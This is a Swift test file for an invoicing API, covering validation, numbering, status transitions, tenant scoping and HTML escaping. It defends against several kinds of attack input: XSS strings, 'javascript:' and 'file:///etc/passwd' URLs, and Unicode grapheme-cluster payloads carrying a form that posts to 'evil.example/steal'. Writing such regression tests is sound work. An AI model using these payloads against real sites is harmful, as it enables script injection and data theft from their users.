import Foundation
import PropertyTestSupport
import Support
import Testing

/// Invoices over the socket: validation, numbering, status machine, tenant scoping, rendering.
struct InvoicesTests {
    let server: TestServer
    init() throws { server = try TestServer() }

    func tenantAdmin(_ name: String = "Inv") throws -> (tenant: String, key: String) {
        let t = try server.makeTenant(name)
        return (t, try server.makeKey(role: "admin", tenant: t))
    }

    @Test func create_LineItems_SumAndHalfEven() throws {
        let (_, key) = try tenantAdmin()
        let r = try server.asOperator("create_invoice", tenantOf: key, body: [
            "due_date": "2026-12-31", "currency": "brl",
            "line_items": [["description": "Seats", "quantity": 3, "unit_amount_cents": 1000],
                           ["description": "Tokens", "quantity": 1, "unit_price_micros": 25_000],     // 2.5 cents → 2
                           ["description": "Calls", "quantity": 3, "unit_price_micros": 5_000],      // 1.5 cents → 2
                           ["description": "Discount", "amount_cents": -500]],
        ])
        #expect(r.status == 201, "\(r.text)")
        #expect(r.data["line_items"]?.arrayValue?.compactMap { $0["amount_cents"]?.intValue } == [3000, 2, 2, -500])
        #expect(r.data["amount_cents"] == 2504 && r.data["currency"] == "BRL")
        #expect(r.data["status"] == "pending")
        let mismatch = try server.asOperator("create_invoice", tenantOf: key, body: ["due_date": "2026-12-31", "amount_cents": 1,
                                                                          "line_items": [["description": "x", "amount_cents": 2]]])
        #expect(mismatch.status == 400 && mismatch.json["error"]?["fields"]?["amount_cents"] != nil)
        let wrongLine = try server.asOperator("create_invoice", tenantOf: key, body: ["due_date": "2026-12-31",
                                                                           "line_items": [["description": "x", "quantity": 2, "unit_amount_cents": 5, "amount_cents": 11]]])
        #expect(wrongLine.status == 400 && wrongLine.json["error"]?["fields"]?["line_items[0].amount_cents"] != nil)
    }

    /// PHP defects: negative amount, "not-a-date", an object stored as "Array", bad enums → 500.
    @Test func badInput_Is400_NamingTheField() throws {
        let (_, key) = try tenantAdmin()
        let cases: [(JSON, String)] = [
            (["amount_cents": -1, "due_date": "2026-12-31"], "amount_cents"),
            (["amount_cents": 100, "due_date": "not-a-date"], "due_date"),
            (["amount_cents": ["a": 1], "due_date": "2026-12-31"], "amount_cents"),
            (["amount_cents": 1.5, "due_date": "2026-12-31"], "amount_cents"),
            (["amount_cents": "100", "due_date": "2026-12-31"], "amount_cents"),
            (["amount_cents": 100], "due_date"),
            (["amount_cents": 100, "due_date": "2026-02-30"], "due_date"),
            (["amount_cents": 100, "due_date": "2026-12-31", "status": "bogus"], "status"),
            (["amount_cents": 100, "due_date": "2026-12-31", "currency": "R$"], "currency"),
            (["due_date": "2026-12-31", "line_items": [["quantity": 1, "amount_cents": 1]]], "line_items[0].description"),
            (["due_date": "2026-12-31", "line_items": "nope"], "line_items"),
        ]
        for (body, field) in cases {
            let r = try server.asOperator("create_invoice", tenantOf: key, body: body)
            #expect(r.status == 400, "\(body) → \(r.status) \(r.text)")
            #expect(r.json["error"]?["fields"]?[field] != nil, "\(r.text)")
        }
        #expect(try server.call("list_invoices", key: key, query: ["status": "bogus"]).status == 400)
        #expect(try server.call("list_invoices", key: key).data["total"] == 0)
    }

    /// PHP defect: `INV-<unix>-<rand>` numbers collided; ours are gapless under concurrency.
    @Test func numbers_AreGapless_Under32ConcurrentCreations() throws {
        let (_, key) = try tenantAdmin()
        let numbers = LockedValue<[String]>([])
        DispatchQueue.concurrentPerform(iterations: 32) { _ in
            let r = try? server.asOperator("create_invoice", tenantOf: key, body: ["amount_cents": 100, "due_date": "2026-12-31"])
            if let n = r?.data["invoice_number"]?.stringValue { numbers.withLock { $0.append(n) } }
        }
        let year = RFC3339.format(Date()).prefix(4)
        let expected = (1...32).map { "INV-\(year)-" + String(format: "%06d", $0) }
        #expect(numbers.get().sorted() == expected)
    }

    /// PHP defects: any transition allowed; paid → pending kept paid_at.
    @Test func statusMachine_OverTheAPI() throws {
        let (_, key) = try tenantAdmin()
        let id = try server.asOperator("create_invoice", tenantOf: key, body: ["amount_cents": 100, "due_date": "2026-12-31", "status": "draft"]).data["id"]!
        #expect(try server.asOperator("update_invoice", tenantOf: key, body: ["id": id, "status": "paid"]).status == 409)
        #expect(try server.asOperator("update_invoice", tenantOf: key, body: ["id": id, "status": "pending"]).status == 200)
        let paid = try server.asOperator("update_invoice", tenantOf: key, body: ["id": id, "status": "paid", "payment_method": "pix"])
        #expect(paid.status == 200 && paid.data["paid_at"] != .null && paid.data["payment_method"] == "pix")
        let back = try server.asOperator("update_invoice", tenantOf: key, body: ["id": id, "status": "pending"])
        #expect(back.status == 409 && back.errorCode == "conflict")
        #expect(try server.asOperator("update_invoice", tenantOf: key, body: ["id": id, "status": "refunded"]).data["status"] == "refunded")
        #expect(try server.asOperator("update_invoice", tenantOf: key, body: ["id": id, "status": "paid"]).status == 409)
        #expect(try server.asOperator("update_invoice", tenantOf: key, body: ["id": id, "status": "nope"]).status == 400)
    }

    /// PHP defect: another tenant's subscription_id was accepted on an invoice.
    @Test func crossTenant_Ids_Are404_AndBUnchanged() throws {
        let (_, keyA) = try tenantAdmin("A")
        let (tb, keyB) = try tenantAdmin("B")
        let subB = try server.asOperator("create_subscription", tenantOf: keyB, body: ["plan_type": "starter", "billing_cycle": "monthly"]).data["id"]!
        let invB = try server.asOperator("create_invoice", tenantOf: keyB, body: ["amount_cents": 700, "due_date": "2026-12-31", "notes": "b-secret-note"]).data["id"]!
        let before = try server.call("list_invoices", key: server.superKey, query: ["tenant_id": tb]).text
        let r = try server.asOperator("create_invoice", tenantOf: keyA, body: ["amount_cents": 1, "due_date": "2026-12-31", "subscription_id": subB])
        #expect(r.status == 404)
        for (action, body, query) in [("get_invoice", nil, ["id": invB.stringValue!]), ("render_invoice", nil, ["id": invB.stringValue!]),
                                      ("update_invoice", ["id": invB, "status": "cancelled"] as JSON?, [:])] as [(String, JSON?, [String: String])] {
            // update_invoice is an operator's: one acting on tenant A does not reach B's invoice either.
            let resp = action == "update_invoice" ? try server.asOperator(action, tenantOf: keyA, query: query, body: body)
                                                  : try server.call(action, key: keyA, query: query, body: body)
            #expect(resp.status == 404, "\(action) \(resp.status)")
            #expect(!resp.text.contains("b-secret-note"))
        }
        #expect(try server.call("list_invoices", key: keyA).data["total"] == 0)
        #expect(try server.call("list_invoices", key: server.superKey, query: ["tenant_id": tb]).text == before)
    }

    @Test func render_EscapesHTML_AndOffersPDF() throws {
        let (t, key) = try tenantAdmin()
        _ = try server.call("update_tenant", key: server.superKey, body: ["id": .string(t), "name": "<b>Evil & Co</b>"])
        let id = try server.asOperator("create_invoice", tenantOf: key, body: [
            "due_date": "2026-12-31", "notes": "<script>alert(1)</script>",
            "line_items": [["description": "<img src=x onerror=alert(1)>", "amount_cents": 1234]],
        ]).data["id"]!.stringValue!
        let html = try server.call("render_invoice", key: key, query: ["id": id])
        #expect(html.status == 200 && html.header("Content-Type")?.hasPrefix("text/html") == true)
        // Issue 20: no page may frame the invoice, and no form in it may post anywhere.
        let csp = (html.header("Content-Security-Policy") ?? "").split(separator: ";").map { $0.trimmingCharacters(in: .whitespaces) }
        #expect(csp == ["default-src 'none'", "style-src 'self'", "frame-ancestors 'none'", "form-action 'none'"], "\(csp)")
        #expect(html.header("X-Content-Type-Options") == "nosniff")
        #expect(!html.text.contains("<script>") && !html.text.contains("<img") && !html.text.contains("<b>Evil"))
        #expect(html.text.contains("&lt;script&gt;") && html.text.contains("&lt;b&gt;Evil &amp; Co&lt;/b&gt;"))
        #expect(html.text.contains("BRL 12.34") && html.text.contains("INV-"))
        #expect(try server.call("render_invoice", key: key, query: ["id": id, "format": "pdf"]).status == 200)  // InvoicePDFTests
        #expect(try server.call("render_invoice", key: key, query: ["id": id, "format": "doc"]).status == 400)
    }

    /// Issue 18: any number of line items was accepted (each rendered into HTML and PDF); 500 is the cap.
    @Test func create_RefusesMoreThan500LineItems_NamingTheField() throws {
        let (_, key) = try tenantAdmin()
        func lines(_ n: Int) -> JSON { .array((0..<n).map { _ in ["description": "x", "amount_cents": 1] }) }
        let ok = try server.asOperator("create_invoice", tenantOf: key, body: ["due_date": "2026-12-31", "line_items": lines(500)])
        #expect(ok.status == 201 && ok.data["amount_cents"] == 500, "\(ok.status) \(ok.text.prefix(300))")
        let tooMany = try server.asOperator("create_invoice", tenantOf: key, body: ["due_date": "2026-12-31", "line_items": lines(501)])
        #expect(tooMany.status == 400 && tooMany.json["error"]?["fields"]?["line_items"] != nil, "\(tooMany.status) \(tooMany.text.prefix(300))")
        #expect(try server.call("list_invoices", key: key).data["total"] == 1)
    }

    /// Issue 18: `external_invoice_url` is shown as a link, and `javascript:` or `data:` URLs were stored as given.
    @Test func update_AcceptsOnlyHTTPExternalInvoiceURLs() throws {
        let (_, key) = try tenantAdmin()
        let id = try server.asOperator("create_invoice", tenantOf: key, body: ["amount_cents": 100, "due_date": "2026-12-31"]).data["id"]!
        for bad in ["javascript:alert(document.cookie)", "JAVASCRIPT:alert(1)", "data:text/html,<script>alert(1)</script>",
                    "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example/pay", "/relative/path", "https://", "https:///x",
                    "ftp://pay.example.com/i/1", "https://user:pw@pay.example.com/", "https://pay.example.com/\u{85}x", "http://a b/"] {
            let r = try server.asOperator("update_invoice", tenantOf: key, body: ["id": id, "external_invoice_url": .string(bad)])
            #expect(r.status == 400 && r.json["error"]?["fields"]?["external_invoice_url"] != nil, "\(bad) → \(r.status) \(r.text)")
        }
        #expect(try server.call("get_invoice", key: key, query: ["id": id.stringValue!]).data["external_invoice_url"] == .null)
        for good in ["https://pay.example.com/i/1?t=abc", "HTTP://pay.example.com:8080/x"] {
            let r = try server.asOperator("update_invoice", tenantOf: key, body: ["id": id, "external_invoice_url": .string(good)])
            #expect(r.status == 200 && r.data["external_invoice_url"]?.stringValue == good, "\(good) → \(r.text)")
        }
        let cleared = try server.asOperator("update_invoice", tenantOf: key, body: ["id": id, "external_invoice_url": .null])
        #expect(cleared.status == 200 && cleared.data["external_invoice_url"] == .null)
    }

    /// Issue 20: U+0600 forms one grapheme cluster with the `<` after it, so an escaper comparing
    /// `Character`s let these through as a real `<form>`, `<meta http-equiv=refresh>`, `<a>`, `<img>`
    /// and `<script>`. Python's `html.parser` must find only the page's own elements, and each
    /// description as the text of its cell.
    @Test func render_EscapesMarkupHiddenInGraphemeClusters() throws {
        let (t, key) = try tenantAdmin()
        let payloads = [
            "\u{0600}<form action=https://evil.example/steal method=post \u{0600}>",
            "\u{0600}<meta http-equiv=refresh content=\"0;url=https://evil.example/\"\u{0600}>",
            "\u{0600}<a href=https://evil.example/\u{0600}>pay here\u{0600}</a\u{0600}>",
            "\u{0600}<img src=x onerror=alert(1)\u{0600}>",
            "\u{08E2}<script\u{0605}>alert(1)\u{0603}</script\u{0601}>",
        ]
        _ = try server.call("update_tenant", key: server.superKey, body: ["id": .string(t), "name": .string(payloads[0])])
        let created = try server.asOperator("create_invoice", tenantOf: key, body: [
            "due_date": "2026-12-31", "notes": .string(payloads[1]),
            "line_items": .array(payloads.map { ["description": .string($0), "amount_cents": 100] }),
        ])
        #expect(created.status == 201, "\(created.text)")
        let html = try server.call("render_invoice", key: key, query: ["id": created.data["id"]?.stringValue ?? ""])
        #expect(html.status == 200)
        for tag in ["<form", "<meta http", "<a ", "<img", "<script"] {
            #expect(!html.text.contains(tag), "\(tag) is in the page")
        }
        let failures = try Self.pageOracle.failures([[html.text] + payloads])
        #expect(failures.count == 0, "\(failures.first ?? "")")
    }

    /// Python's `html.parser` over a whole rendered invoice: only the template's elements and
    /// attributes, and every given payload present as the text of one element.
    static let pageOracle = PythonOracle(script: PythonOracle.prelude + """
        import html.parser

        ELEMENTS = {"html", "head", "meta", "title", "link", "body", "h1", "h2", "div", "section", "table", "thead",
                    "tbody", "tfoot", "tr", "th", "td", "p"}
        ATTRIBUTES = {"lang", "charset", "class", "colspan"}
        STYLESHEET = [("rel", "stylesheet"), ("href", "/admin/invoice.css")]  # the template's one link

        class Page(html.parser.HTMLParser):
            def __init__(self):
                super().__init__(convert_charrefs=True)
                self.problems, self.texts = [], []
            def handle_starttag(self, tag, attrs):
                if tag not in ELEMENTS: self.problems.append("element " + tag)
                if tag == "link":
                    if attrs != STYLESHEET: self.problems.append("link " + ascii(attrs))
                    return
                for name, _ in attrs:
                    if name not in ATTRIBUTES: self.problems.append("attribute %s on %s" % (name, tag))
            def handle_startendtag(self, tag, attrs): self.handle_starttag(tag, attrs)
            def handle_data(self, data): self.texts.append(data.strip())
            def handle_comment(self, data): self.problems.append("comment")
            def handle_decl(self, decl):
                if decl.lower() != "doctype html": self.problems.append("declaration " + decl)

        for page, *payloads in cases():
            parser = Page()
            parser.feed(page)
            parser.close()
            missing = [p for p in payloads if p.strip() not in parser.texts]
            problems = parser.problems + ["text missing: " + p for p in missing]
            print("ok" if not problems else "fail " + ascii(problems)[:400])
        """)
}
